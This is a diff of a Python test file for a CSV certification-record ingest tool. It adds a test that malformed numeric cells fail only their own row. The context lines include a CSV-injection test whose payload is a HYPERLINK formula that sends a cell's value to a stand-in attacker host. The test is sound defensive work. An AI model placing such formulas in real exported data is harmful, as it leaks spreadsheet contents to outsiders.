@@ -345,6 +345,24 @@ def test_days_and_windows_out_of_range_are_usage_errors(
     assert "outstanding record(s) as of 2200-12-31" in widest.stdout
 
 
+def test_a_csv_number_that_is_no_integer_fails_its_own_row(config: Path, tmp_path: Path) -> None:
+    """`"²".isdigit()` is true and `int("²")` fails: the cell crashed ingest with a traceback,
+    the rows after it never read. It is now a field error of its own row."""
+    header = "record_id;event_id;certifier;certification.type;certification.code;delivered_on;"
+    header += "obtention;holder.birth_name;holder.first_names;holder.birth_date;holder.sex;"
+    header += "digital_level.general_score"
+    person = f"{RECENT};PAR_ADMISSION;Haba;Bart;1993-05-23;M"
+    lines = [header, f"N-1;e-1;pix;RS;RS5875;{person};²", f"N-2;e-2;pix;RS;RS5875;{person};"]
+    lines.append(f"N-3;e-3;pix;RS;RS5875;{person};{'9' * 5000}")
+    source = tmp_path / "events.csv"
+    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    out = run(config, "ingest", str(source), code=None)
+    assert "Traceback" not in out.stderr and "3 events read" in out.stdout, out.stderr
+    assert problem_line(out.stdout, source, 2, "N-1", "digital_level.general_score")
+    assert problem_line(out.stdout, source, 4, "N-3", "digital_level.general_score")
+    assert {r["record_id"] for r in outstanding_json(config)} == {"N-1", "N-2", "N-3"}
+
+
 def test_csv_keeps_a_formula_from_outside_as_text(config: Path, tmp_path: Path) -> None:
     """Record ids come from the platforms: a cell a spreadsheet would run is kept as text."""
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
